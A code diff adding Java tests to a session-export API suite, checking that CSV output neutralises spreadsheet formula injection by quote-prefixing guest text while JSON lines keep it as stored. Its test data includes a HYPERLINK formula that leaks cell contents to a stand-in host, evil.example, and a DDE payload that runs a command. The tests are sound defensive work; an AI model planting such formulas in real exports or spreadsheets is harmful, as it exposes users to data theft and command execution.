@@ -247,6 +247,49 @@ class SessionExportTest extends ApiTest {
             assertTrue(body.contains(",\"\","), body);
         }
 
+        /** OWASP's CSV injection advice: a spreadsheet runs a cell starting with = + - @ tab or CR as a formula. */
+        @Test
+        void guestTextThatASpreadsheetWouldRunAsAFormulaIsPrefixedWithAQuoteInCsvOnly() {
+            Tenant tenant = given().tenant();
+            Map<String, String> hostile = Map.of(
+                    "location_name", "+1+1",
+                    "guest_device_description", "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
+                    "access_code", "\t=cmd|' /C calc'!A0",
+                    "login_type_name", "-2+3",
+                    "service_profile_name", "@SUM(1+1)",
+                    "yas_id", "\r=1+1");
+            Http.Response created = http().post("/admin/tenants/" + tenant.id() + "/locations",
+                    Map.of("name", hostile.get("location_name"), "time_zone", "UTC"), Fixtures.admin());
+            assertEquals(201, created.status(), created.body());
+            Location location = new Location(created.json().get("id").asText(), tenant, "UTC");
+            Key key = given().readKey(tenant);
+            given().sessions(session(location).field("guest_device_description", hostile.get("guest_device_description"))
+                    .field("access_code", hostile.get("access_code")).field("login_type_name", hostile.get("login_type_name"))
+                    .field("service_profile_name", hostile.get("service_profile_name"))
+                    .guest("Name", "a@example.com", hostile.get("yas_id")));
+
+            Map<String, String> row = csvRows(export(key, "", CSV).body()).get(0);
+            JsonNode line = jsonLines(export(key, "", NDJSON).body()).get(0);
+
+            hostile.forEach((field, value) -> {
+                assertEquals("'" + value, row.get(field), field);
+                assertEquals(value, line.get(field).asText(), "JSON lines carry " + field + " as stored");
+            });
+        }
+
+        @Test
+        void textThatOnlyContainsAFormulaCharacterIsLeftAlone() {
+            Tenant tenant = given().tenant();
+            Location location = given().location(tenant);
+            Key key = given().readKey(tenant);
+            given().sessions(session(location).field("guest_device_description", "a=b, c+d -e @f").field("access_code", "'x"));
+
+            Map<String, String> row = csvRows(export(key, "", CSV).body()).get(0);
+
+            assertEquals("a=b, c+d -e @f", row.get("guest_device_description"));
+            assertEquals("'x", row.get("access_code"));
+        }
+
         @Test
         void noMatchingSessionIsTheHeaderRowAlone() {
             Tenant tenant = given().tenant();
